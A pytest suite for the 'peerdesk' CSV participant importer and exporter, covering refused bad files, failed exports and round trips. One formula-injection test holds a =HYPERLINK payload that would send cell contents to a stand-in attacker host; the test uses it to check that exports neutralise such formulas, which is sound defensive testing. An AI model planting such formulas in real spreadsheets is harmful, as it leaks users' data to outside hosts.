"""Bad input writes nothing and says why: CSV files of every kind of wrong, exports that cannot be written."""

from __future__ import annotations

import csv
import errno
import io
import os
import random
from dataclasses import replace

import hypothesis.strategies as st
import pytest
from hypothesis import HealthCheck, given, settings

from peerdesk.cli import main
from peerdesk.importing import MAX_BYTES, apply_import, export_participants, plan_import
from peerdesk.store.db import open_db
from peerdesk.store.errors import DiskFull, StoreError, ValidationError
from peerdesk.store.participants import list_participants

GOOD = "name,email,department\nZoë Ødegård,zoe@example.com,Platform\n"


def dump(db):
    tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")]
    return {t: db.execute(f"SELECT * FROM [{t}] ORDER BY rowid").fetchall() for t in tables}


@pytest.fixture
def store(demo_file):
    db = open_db(demo_file)
    yield db
    db.close()


def _refused(store, path, words):
    before = dump(store)
    with pytest.raises(ValidationError, match=words) as info:
        apply_import(store, plan_import(store, path))
    assert "\n" not in str(info.value)
    assert dump(store) == before
    return str(info.value)


def test_empty_file(store, tmp_path):
    (tmp_path / "e.csv").write_bytes(b"")
    _refused(store, tmp_path / "e.csv", "empty")
    (tmp_path / "blank.csv").write_text("\n\n   \n")
    _refused(store, tmp_path / "blank.csv", "empty")


def test_binary_files(store, tmp_path):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(1).randbytes(2000)
    (tmp_path / "photo.csv").write_bytes(png)
    _refused(store, tmp_path / "photo.csv", "not a text CSV")
    xlsx = b"PK\x03\x04\x14\x00\x06\x00" + random.Random(2).randbytes(3000)
    (tmp_path / "sheet.csv").write_bytes(xlsx)
    _refused(store, tmp_path / "sheet.csv", "not a text CSV|encoding|no name|no email")


def test_huge_file(store, tmp_path):
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as fh:
        fh.write(GOOD.encode())
        fh.truncate(MAX_BYTES + 1)  # sparse: quick to make
    _refused(store, huge, "too large")


def test_windows_1252_file_is_read_correctly(store, tmp_path):
    (tmp_path / "w.csv").write_bytes("name;email\r\nZoë Ødegård;zoe@example.com\r\n".encode("cp1252"))
    plan = plan_import(store, tmp_path / "w.csv")
    assert plan.encoding == "windows-1252" and plan.added[0].name == "Zoë Ødegård"


def test_utf16_file_is_read_correctly(store, tmp_path):
    (tmp_path / "u.csv").write_bytes(GOOD.encode("utf-16"))
    assert plan_import(store, tmp_path / "u.csv").added[0].name == "Zoë Ødegård"


def test_missing_required_columns(store, tmp_path):
    (tmp_path / "m.csv").write_text("name,department\nAda,R&D\n")
    message = _refused(store, tmp_path / "m.csv", "no email column")
    assert "Found: name, department" in message


def test_duplicate_emails_import_nothing(store, tmp_path):
    (tmp_path / "d.csv").write_text("name,email\nAda,ada@example.org\nAda L,ADA@example.org\nBo,bo@example.org\n")
    plan = plan_import(store, tmp_path / "d.csv")
    assert [(e.line, "appears again" in e.reason) for e in plan.errors] == [(3, True)]
    before = dump(store)
    with pytest.raises(ValidationError, match="nothing was imported"):
        apply_import(store, plan)
    assert dump(store) == before
    assert apply_import(store, plan, good_rows=True) == 2


def test_formula_cells_are_stored_as_text_and_exported_safely(store, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [["name", "email", "notes", "department"], [evil, "eve@example.org", "+1 555", "@SUM(A1)"]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    (tmp_path / "f.csv").write_text(buffer.getvalue())
    apply_import(store, plan_import(store, tmp_path / "f.csv"))
    eve = next(p for p in list_participants(store) if p.email == "eve@example.org")
    assert eve.name == evil and eve.notes == "+1 555" and eve.department == "@SUM(A1)"
    export_participants(store, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["email"] == "eve@example.org")
    assert row["name"] == "'" + evil and row["notes"] == "'+1 555" and row["department"] == "'@SUM(A1)"
    # and a round trip through the export changes nothing
    assert plan_import(store, tmp_path / "out.csv").changes == 0


def test_import_command_writes_nothing_on_bad_rows(demo_file, tmp_path, digest, capsys):
    (tmp_path / "bad.csv").write_text("name,email,role\nAda,ada@example.org,wizard\nBo,not-an-email,peer\n")

    def snapshot():
        db = open_db(demo_file, readonly=True)
        try:
            return dump(db)
        finally:
            db.close()

    before = snapshot()
    assert main(["--db", str(demo_file), "import", "participants", str(tmp_path / "bad.csv")]) == 1
    err = capsys.readouterr().err
    assert "line 2:" in err and "line 3:" in err and "nothing was imported" in err
    assert snapshot() == before


# ------------------------------------------------------------------ exports that cannot be written


def test_export_into_a_missing_folder(store, tmp_path, capsys, demo_file):
    with pytest.raises(StoreError, match="does not exist"):
        export_participants(store, tmp_path / "gone" / "people.csv")
    assert not (tmp_path / "gone").exists()
    assert main(["--db", str(demo_file), "export", "participants", str(tmp_path / "gone" / "p.csv")]) == 1
    assert "does not exist" in capsys.readouterr().err


def test_export_into_a_read_only_folder(store, tmp_path, monkeypatch):
    import peerdesk.store.safefile as safefile

    def denied(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(safefile.tempfile, "mkstemp", denied)
    with pytest.raises(safefile.WriteFailed, match="may not write"):
        export_participants(store, tmp_path / "people.csv")
    assert not [p for p in os.listdir(tmp_path) if "people" in p]


def test_export_on_a_full_disk_leaves_no_partial_file(store, tmp_path, monkeypatch):
    real_write = os.write
    folder = tmp_path / "out"
    folder.mkdir()

    class Full:
        def __init__(self, real):
            self.real = real

        def write(self, data):
            self.real.write(data[: len(data) // 2])
            self.real.flush()
            raise OSError(errno.ENOSPC, "No space left on device")

        def __getattr__(self, name):
            return getattr(self.real, name)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.real.close()

    real_fdopen = os.fdopen
    monkeypatch.setattr(os, "fdopen", lambda *a, **k: Full(real_fdopen(*a, **k)))
    assert real_write is os.write
    with pytest.raises(DiskFull, match="disk is full"):
        export_participants(store, folder / "people.csv")
    assert list(folder.iterdir()) == []


# ------------------------------------------------------------------ arbitrary text through the importer

CELL = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=CELL, dept=CELL, notes=CELL, title=CELL, teaches=CELL, delimiter=st.sampled_from([",", ";"]))
def test_arbitrary_unicode_and_control_characters_through_the_importer(
    tmp_path, name, dept, notes, title, teaches, delimiter
):
    """Every row is either imported and reads back exactly, or reported by line; nothing else happens."""
    db = open_db(":memory:")
    try:
        buffer = io.StringIO(newline="")
        csv.writer(buffer, delimiter=delimiter).writerows(
            [
                ["name", "email", "department", "notes", "title", "teaches"],
                [name, "x@example.org", dept, notes, title, teaches],
            ]
        )
        path = tmp_path / "h.csv"
        path.write_bytes(buffer.getvalue().encode("utf-8"))
        try:
            plan = plan_import(db, path)
        except ValidationError as exc:  # the whole file refused, with a reason
            assert str(exc) and "\n" not in str(exc)
            assert db.execute("SELECT count(*) FROM participants").fetchone()[0] == 0
            return
        if plan.errors:
            assert plan.errors[0].line == 2 and plan.errors[0].reason
            with pytest.raises(ValidationError):
                apply_import(db, plan)
            assert db.execute("SELECT count(*) FROM participants").fetchone()[0] == 0
            return
        assert apply_import(db, plan) == 1
        (p,) = list_participants(db)
        assert p == replace(plan.added[0], id=p.id)
        assert p.notes == notes.strip() and p.name == " ".join(name.split())
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        # exporting and importing again changes nothing
        export_participants(db, tmp_path / "again.csv")
        assert plan_import(db, tmp_path / "again.csv").changes == 0
    finally:
        db.close()
